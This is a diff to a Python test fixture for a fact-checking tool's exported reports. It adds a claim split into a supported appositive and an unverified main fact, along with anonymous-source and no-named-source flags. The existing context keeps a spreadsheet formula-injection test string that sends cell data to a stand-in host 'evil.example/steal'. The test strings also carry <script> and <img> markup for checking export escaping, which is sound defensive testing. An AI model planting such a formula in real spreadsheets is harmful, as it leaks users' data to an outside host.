@@ -6,6 +6,8 @@
 - claim 4: machine unverified, reviewed to contradicted with a note; its quote starts with
   =HYPERLINK(...) (formula injection);
 - claim 5: supported by a quote full of Markdown/HTML (links, emphasis, pipes, <img>);
+- claim 6: unverified from its two parts (the appositive supported, the main fact not found),
+  with an anonymous-source flag; the article is flagged for naming no source;
 - an article title with | and <script>, non-ASCII text throughout;
 - a source in report.sources that no quote cites.
 
@@ -14,11 +16,15 @@ Loaded by path (tests/checker/exports/conftest.py, tests/checker/test_report_io.
 
 from __future__ import annotations
 
+from dataclasses import replace
+
 from checker.models import (
     Article,
     Claim,
     ClaimResult,
     Evidence,
+    Flag,
+    FlagKind,
     Report,
     ReportSettings,
     Review,
@@ -37,6 +43,7 @@ CLAIM_TEXTS = (
     "The mayor's office planted 10,000 trees last year.",
     "The bridge cost 2 billion euros to build.",
     "Exports to Japan | Korea doubled since 2020 <b>[sic]</b>.",
+    "Sources say the city's largest employer, the port, hired 900 dockers.",
 )
 HYPERLINK_QUOTE = '=HYPERLINK("https://evil.example/steal?c="&A1,"Click for details")'
 MARKDOWN_QUOTE = (
@@ -135,6 +142,57 @@ def _evidence(source: SourceRef, quote: str, stance: Stance, score: float, at: i
     )
 
 
+def _claim_with_parts(article: Article, source: SourceRef) -> ClaimResult:
+    claim = _claim(article, 5)
+    aside = "the port"
+    at = article.text.index(aside, claim.start)
+    main = Claim(
+        id="c6p1",
+        text="Sources say the city's largest employer hired 900 dockers.",
+        start=claim.start,
+        end=claim.end,
+        locations=(Span(claim.start, claim.end),),
+        checkworthiness=0.8,
+        query="Sources say the city's largest employer hired 900 dockers.",
+        kind="main",
+    )
+    appositive = Claim(
+        id="c6p2",
+        text="The city's largest employer is the port.",
+        start=at,
+        end=at + len(aside),
+        locations=(Span(at, at + len(aside)),),
+        checkworthiness=0.7,
+        query="The city's largest employer is the port.",
+        kind="appositive",
+    )
+    quote = "The port employs 9,000 people, more than any other employer in the city."
+    parts = (
+        ClaimResult(main, Verdict.UNVERIFIED, 1.0, "no relevant evidence in the library"),
+        ClaimResult(
+            appositive,
+            Verdict.SUPPORTED,
+            0.8,
+            "supported by 1 source",
+            (_evidence(source, quote, Stance.SUPPORTS, 0.8, 40),),
+        ),
+    )
+    words = "Sources say"
+    return ClaimResult(
+        claim=replace(
+            claim,
+            parts=(main, appositive),
+            flags=(Flag(FlagKind.ANONYMOUS, words, claim.start, claim.start + len(words)),),
+        ),
+        verdict=Verdict.UNVERIFIED,
+        confidence=0.8,
+        reason="1 of 2 parts supported; not settled: \"Sources say the city's largest employer "
+        'hired 900 dockers": no relevant evidence in the library',
+        evidence=parts[1].evidence,
+        parts=parts,
+    )
+
+
 def make_report() -> Report:
     article = _article()
     s1, s2, s3, _ = SOURCES
@@ -188,6 +246,7 @@ def make_report() -> Report:
             reason="The office's export table shows the doubling.",
             evidence=(_evidence(s1, MARKDOWN_QUOTE, Stance.SUPPORTS, 0.77, 900),),
         ),
+        _claim_with_parts(article, s1),
     )
     return Report(
         article=article,
@@ -199,4 +258,5 @@ def make_report() -> Report:
         sources=SOURCES,
         check_id="chk-20240502-abc123",
         notes=("Library of 4 sources.",),
+        flags=(Flag(FlagKind.NO_NAMED_SOURCE, "", 0, 0),),
     )
